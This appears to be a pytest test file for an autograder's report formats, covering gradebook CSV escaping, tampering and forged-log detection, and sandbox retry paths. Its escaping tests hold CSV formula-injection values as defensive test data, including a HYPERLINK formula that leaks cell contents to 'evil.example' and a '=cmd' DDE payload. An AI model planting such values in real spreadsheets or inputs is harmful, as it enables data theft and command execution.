"""Self-test: the one report (``convgrader.report``): every format, escaping, and the 'grading failed' paths."""

import csv
import io
import json
import subprocess
import sys
import textwrap
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import pytest

from convgrader import report as reports
from convgrader.judging import grade, outcomes
from convgrader.paths import PROJECT
from convgrader.report import (GRADED, GRADING_FAILED, REJECTED, PartTotal, Report, Verdict,
                               escape_cell, from_csv_row, from_results_json, to_csv_row, to_junit, to_markdown,
                               to_results_json, unescape_cell)



def sample_report():
    """A graded report using every field: a pass, a failure that printed, a hidden test, tampering-free."""
    tests = [
        Verdict("tests/graded/test_convolution.py::test_conv_forward_naive[seed]", "test_conv_forward_naive[seed]",
                "conv_forward_naive", outcome="passed", duration=0.125, score=6.0, max_score=6.0),
        Verdict("tests/graded/test_convolution.py::test_conv_forward_naive[pad]", "test_conv_forward_naive[pad]",
                "conv_forward_naive", outcome="failed", message="shape (2, 3) != (2, 4) | `x` <b>",
                output="hello\n", output_bytes=6, duration=0.5, max_score=6.0),
        Verdict("tests/hidden/test_random.py::test_spatial_groupnorm_forward[0]",
                "test_spatial_groupnorm_forward[0]", "spatial_groupnorm_forward", hidden=True,
                outcome="passed", duration=0.25, score=5.0, max_score=5.0, visibility="after_published"),
    ]
    return Report(
        status=GRADED, score=11.0, max_score=100.0,
        parts={"conv_forward_naive": PartTotal(6.0, 12.0, 1, 2), "spatial_groupnorm_forward": PartTotal(5.0, 5.0, 1, 1)},
        tests=tests, notes=["layers.py was not UTF-8: re-encoded from cp1251"], not_run=["test_one_epoch_cifar10"],
        isolation="namespaces", harness_version="0.1.0", impl="student_impl",
        environment={"python": "3.11.7", "numpy": "2.0.0", "platform": "Linux"},
        seeds={"hidden_seed": 7, "fixtures": "fixed"}, fixtures_sha256="ab" * 32, command="grade --impl x",
        graded_at="2026-01-01T00:00:00Z", timings={"execution_time": 12.5})


def test_results_json_round_trips_every_field():
    original = sample_report()
    data = json.loads(json.dumps(to_results_json(original)))
    assert from_results_json(data) == original
    assert data["score"] == 11.0 and data["extra_data"]["bonus"] == 5.0
    assert [t["status"] for t in data["tests"]] == ["passed", "failed", "passed"]
    assert data["tests"][2]["visibility"] == "after_published"
    assert data["tests"][1]["output"].startswith("shape (2, 3)") and "printed 6 bytes" in data["tests"][1]["output"]
    assert data["output"].startswith("Notes on your upload:")


def test_tampering_costs_every_point_in_every_format():
    tampered = sample_report()
    tampered.tampering = ["import of answer_key"]
    data = to_results_json(tampered)
    assert all(t["status"] == "failed" for t in data["tests"])
    assert "TAMPERING DETECTED" in data["output"]
    assert from_results_json(data).tampering == ["import of answer_key"]
    assert to_csv_row(tampered, "x")["status"] == "graded: tampering detected (import of answer_key)"


@pytest.mark.parametrize("status", [REJECTED, GRADING_FAILED])
def test_not_graded_reports_round_trip_and_say_why(status):
    original = Report(status=status, reason="no layers.py found", bonus_parts=[], isolation="process",
                      timings={"execution_time": 1.5})
    data = json.loads(json.dumps(to_results_json(original)))
    assert from_results_json(data) == original
    assert data["score"] == 0 and data["tests"] == []
    assert "no layers.py found" in data["output"]
    assert ("not a judgement of your code" in data["output"]) == (status == GRADING_FAILED)


def test_older_and_smaller_results_files_are_read():
    assert from_results_json({"score": 3, "tests": []}).status == GRADED
    old_batch = {"score": 0.0, "extra_data": {"batch_status": "grading failed: stopped after 3 s"}}
    assert (from_results_json(old_batch).status, from_results_json(old_batch).reason) == \
        (GRADING_FAILED, "stopped after 3 s")
    shell = {"score": 0.0, "tests": [], "extra_data": {"status": "grading failed", "reason": "no python"}}
    assert from_results_json(shell).label == "grading failed: no python"  # run_autograder's own fallback
    for bad in ([], {"tests": []}, {"score": "10"}):
        with pytest.raises(ValueError):
            from_results_json(bad)


def test_junit_holds_each_test_and_the_failures():
    suite = ElementTree.fromstring(to_junit(sample_report()))
    cases = suite.findall("testcase")
    assert [c.get("name") for c in cases] == [t.name for t in sample_report().tests]
    assert [c.get("classname") for c in cases] == ["conv_forward_naive", "conv_forward_naive",
                                                   "spatial_groupnorm_forward"]
    assert suite.get("tests") == "3" and suite.get("failures") == "1" and suite.get("errors") == "0"
    failure = cases[1].find("failure")
    assert failure.get("message") == "shape (2, 3) != (2, 4) | `x` <b>" and "hello" in failure.text
    assert {p.get("name"): p.get("value") for p in suite.iter("property")}["isolation"] == "namespaces"

    failed = ElementTree.fromstring(to_junit(Report.failed("the sandbox could not start")))
    assert failed.get("errors") == "1"
    assert failed.find("testcase/error").get("message") == "grading failed: the sandbox could not start"


def test_markdown_shows_the_grade_parts_and_escaped_failures():
    text = to_markdown(sample_report())
    # The headline is the required score; the bonus stands apart, never added into it.
    assert text.startswith("### Grade: 6.00 / 100, bonus 5.00 / 5\n")
    assert "| ❌ `conv_forward_naive` | 1/2 | 6.00 / 12 |" in text
    assert "| ✅ `spatial_groupnorm_forward (bonus)` | 1/1 | 5.00 / 5 |" in text
    assert r"shape (2, 3) != (2, 4) \| \`x\` \<b\>" in text  # a student's message cannot break the table
    assert "test_spatial_groupnorm_forward" not in text.split("Failures")[-1]
    assert to_markdown(Report.failed("out of time")).startswith("### Not graded: grading failed: out of time")


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
                                  "\tx", "'=already quoted", "'plain", "Анна", "a=b"])
def test_gradebook_cells_never_start_a_formula_and_read_back_exactly(name):
    row = to_csv_row(sample_report(), name)
    assert not row["submission"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unescape_cell(row["submission"]) == name
    if name[0] in "=+-@\t\r'":
        assert row["submission"] == "'" + name
    else:
        assert row["submission"] == name
    stream = io.StringIO()
    writer = csv.DictWriter(stream, fieldnames=reports.COLUMNS)
    writer.writeheader()
    writer.writerow(row)
    read = next(csv.DictReader(io.StringIO(stream.getvalue())))
    read_name, report = from_csv_row(read)
    assert read_name == name
    assert (report.status, report.score, report.parts["conv_forward_naive"].score, report.bonus) == \
        (GRADED, 11.0, 6.0, 5.0)


@pytest.mark.parametrize("name", ["\rx", "=\x1b]0;owned\x07", "caf\udcff", "a\nb"])
def test_gradebook_cells_show_control_characters_as_escapes(name):
    row = to_csv_row(sample_report(), name)
    assert not row["submission"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not any(c in row["submission"] for c in "\r\n\x1b\x07\udcff")
    assert "\\x" in row["submission"]
    row["submission"].encode("utf-8")


def test_escaping_covers_every_text_cell():
    assert escape_cell("=1+1") == "'=1+1" and escape_cell("1+1") == "1+1"
    failed = to_csv_row(Report.failed("-1 tests ran"), "=cmd|'/c calc'!A0")
    assert failed["submission"] == "'=cmd|'/c calc'!A0"
    assert failed["status"] == "grading failed: -1 tests ran"


def test_a_failed_grading_has_no_score_in_the_gradebook():
    row = to_csv_row(Report.failed("the sandbox's start crashed with SIGKILL"), "anna")
    assert row["status"] == "grading failed: the sandbox's start crashed with SIGKILL"
    assert row["total"] == "" and row["conv_forward_naive"] == "" and row["bonus"] == ""
    name, back = from_csv_row(row)
    assert back.status == GRADING_FAILED and back.reason == "the sandbox's start crashed with SIGKILL"


# -- grade's 'could not grade' paths, with a stand-in for pytest -----------------------------------

FAKE_PYTEST = textwrap.dedent('''
    """Stands in for pytest: writes signed verdicts as the plugin would; behaviour from PLAN (a JSON file)."""
    import json, os, sys
    from pathlib import Path
    from convgrader.judging import outcomes
    from convgrader.report import Verdict

    args = sys.argv[1:]
    plan = json.loads(Path(os.environ["FAKE_PLAN"]).read_text())
    log = next(a.split("=", 1)[1] for a in args if a.startswith("--outcomes="))
    with os.fdopen(int(next(a.split("=", 1)[1] for a in args if a.startswith("--outcomes-key-fd="))), "rb") as pipe:
        key = pipe.read(64)
    deselected = {a.split("=", 1)[1] for a in args if a.startswith("--deselect=")}
    rounds = Path(os.environ["FAKE_PLAN"] + ".rounds")
    round_number = len(rounds.read_text().splitlines()) if rounds.exists() else 0
    with open(rounds, "a") as out:
        out.write(" ".join(sorted(deselected)) + "\\n")
    if round_number < plan.get("internal_errors", 0):
        sys.exit(3)
    with open(log, "a") as out:
        for nodeid in plan["tests"]:
            if nodeid in deselected:
                continue
            broken = round_number < plan.get("infrastructure_rounds", {}).get(nodeid, 0)
            verdict = Verdict(nodeid, nodeid.split("::")[-1], "conv_forward_naive",
                              outcome="grading failed" if broken else "passed",
                              message="the sandbox's start crashed with SIGKILL" if broken else "")
            out.write(outcomes.signed_line(verdict, key))
    sys.exit(0)
''')

TESTS = ["tests/graded/test_convolution.py::test_conv_forward_naive[a]",
         "tests/graded/test_convolution.py::test_conv_forward_naive[b]"]


@pytest.fixture
def fake_pytest(tmp_path, monkeypatch):
    """Run ``grade.run_tests`` against the stand-in; returns (plan writer, rounds reader)."""
    script = tmp_path / "fake_pytest.py"
    script.write_text(FAKE_PYTEST)
    plan = tmp_path / "plan.json"
    monkeypatch.setenv("FAKE_PLAN", str(plan))
    monkeypatch.setenv("PYTHONPATH", str(PROJECT))
    monkeypatch.setattr(grade, "pytest_command", lambda arguments: [sys.executable, str(script), *arguments])

    def run(**settings):
        plan.write_text(json.dumps({"tests": TESTS, **settings}))
        return grade.run_tests([], TESTS, deadline=__import__("time").time() + 60)

    rounds = lambda: Path(str(plan) + ".rounds").read_text().splitlines()  # noqa: E731
    return run, rounds


def test_a_sandbox_that_fails_once_is_retried_and_graded(fake_pytest):
    run, rounds = fake_pytest
    _, verdicts, problems, failure = run(infrastructure_rounds={TESTS[1]: 1})
    assert failure is None and problems == []
    assert [verdicts[n].outcome for n in TESTS] == ["passed", "passed"]
    assert rounds() == ["", TESTS[0]], "the retry runs only the test whose sandbox failed"


def test_a_sandbox_that_fails_twice_fails_the_grading_not_the_student(fake_pytest):
    run, _ = fake_pytest
    _, _, _, failure = run(infrastructure_rounds={TESTS[1]: 2})
    assert failure == "1 test(s) could not run twice: the sandbox's start crashed with SIGKILL"


def test_pytest_internal_errors_are_retried_once_then_fail_the_grading(fake_pytest):
    run, _ = fake_pytest
    _, verdicts, _, failure = run(internal_errors=1)
    assert failure is None and all(verdicts[n].outcome == "passed" for n in TESTS)
    _, _, _, failure = run(internal_errors=5)
    assert failure == "pytest failed twice (internal error, exit status 3)"


def test_the_outcome_log_carries_verdicts_and_refuses_forgeries(tmp_path):
    key = b"k" * 32
    verdict = Verdict("a::t", "t", "conv_forward_naive", outcome=GRADING_FAILED, tamper=["x"], output_bytes=3)
    log = tmp_path / "log.jsonl"
    log.write_text(outcomes.signed_line(verdict, key) + outcomes.signed_line(Verdict("a::u", "u"), b"wrong key"))
    found, problems = outcomes.read(log, key)
    assert found == {"a::t": verdict}
    assert problems == ["line 2 of the outcome log is forged"]


def test_grade_writes_a_grading_failed_report_when_nothing_can_be_collected(tmp_path):
    results = tmp_path / "results.json"
    run = subprocess.run([sys.executable, "-m", "convgrader", "grade", "--impl", "answer_key", "--results",
                          str(results), "-k", "no_test_has_this_name"], cwd=PROJECT, capture_output=True,
                         text=True, timeout=600)
    assert run.returncode == 2, run.stdout + run.stderr
    report = from_results_json(json.loads(results.read_text(encoding="utf-8")))
    assert report.status == GRADING_FAILED and report.score == 0 and report.tests == []
    assert report.reason == "the test suite could not be collected (no test matched)"
    assert report.isolation in ("namespaces", "process")
    assert "grading failed: the test suite could not be collected" in run.stderr


def test_the_outcome_log_takes_numpy_numbers_in_a_verdict(tmp_path):
    """A figure's index or origin as numpy integers must not crash pytest's outcome log (it did, in the bundle)."""
    import numpy as np

    from convgrader.judging import outcomes

    verdict = reports.Verdict(nodeid="t.py::test_x", name="test_x", outcome="failed",
                              figure={"index": (np.int64(0), np.int64(1)), "origin": [np.int64(3)],
                                      "expected": np.zeros((2, 2))})
    log = tmp_path / "outcomes.jsonl"
    log.write_text(outcomes.signed_line(verdict, b"k" * 32), encoding="utf-8")
    found, problems = outcomes.read(log, b"k" * 32)
    assert problems == [] and found["t.py::test_x"].figure["origin"] == [3]
